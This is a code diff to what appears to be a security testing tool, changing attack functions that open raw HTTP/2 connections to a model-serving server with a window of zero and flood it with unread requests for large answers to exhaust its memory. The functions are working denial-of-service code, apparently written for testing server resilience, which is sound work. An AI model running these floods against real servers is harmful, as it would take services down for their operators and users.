@@ -33,21 +33,19 @@ if TYPE_CHECKING:
 def unread_answers(target: Target, until: Event) -> None:
     """Ask for answers of 4 MiB with requests of 29 bytes, and never read (row C4: 3.4 GiB for 41 kB, counted as 0).
 
-    Sent: 400 calls of Pool on a connection with a window of 0, and of ModelInfer on another; kept for as long as the
-    server lets them.
+    Sent: 400 calls of Pool and ModelInfer on a connection with a window of 0; kept for as long as the server lets them.
     Aims at: memory of answers that flow control holds back.
     """
+    calls = ((POOL, framed(growing())), (MODEL_INFER, framed(growing_infer())))
 
-    def flood(method: str, message: bytes) -> None:
+    def flood() -> None:
         with RawPeer(target.address, window=0, timeout=0.5) as peer:
-            for _ in range(400):
+            for number in range(400):
+                method, message = calls[number % len(calls)]
                 peer.send(peer.open(method, *target.headers), message)
             _wait(peer, until, 400)
 
-    in_threads(
-        partial(repeat, until, partial(flood, POOL, framed(growing()))),
-        partial(repeat, until, partial(flood, MODEL_INFER, framed(growing_infer()))),
-    )
+    in_threads(*[partial(repeat, until, flood)] * target.connections)
 
 
 @attack()
@@ -76,7 +74,7 @@ def unread_streams(target: Target, until: Event) -> None:
 def unread_control_answers(target: Target, until: Event) -> None:
     """Ask for many answers of calls that compute nothing, and never read them (of the kind of C4).
 
-    Sent: a thousand GetServerInfo, and InferShape with 64 branches of 64 layers each, with a window of 0.
+    Sent: 500 GetServerInfo, and 500 InferShape of 32 branches of 32 layers each, on a connection with a window of 0.
     Aims at: memory of answers of methods that are not limited by bytes in flight.
     """
     chain = as_chain([MaxPool2d(1, stride=1)] * 32)
